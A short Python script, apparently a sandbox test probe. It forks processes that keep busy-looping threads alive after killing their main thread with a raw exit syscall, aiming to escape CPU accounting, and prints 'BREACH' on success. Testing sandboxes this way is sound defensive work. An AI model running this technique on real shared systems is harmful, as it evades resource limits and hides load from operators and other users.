# Tries: use the processor in threads of processes whose first thread has ended.
# Success: their time is not counted, or they are taken for dead and left.
import ctypes
import os
import threading


def use():
    while True:
        pass


for _ in range(2):
    if os.fork() == 0:
        threading.Thread(target=use).start()
        ctypes.CDLL(None).syscall(60, 0)
os.wait()
print("BREACH")
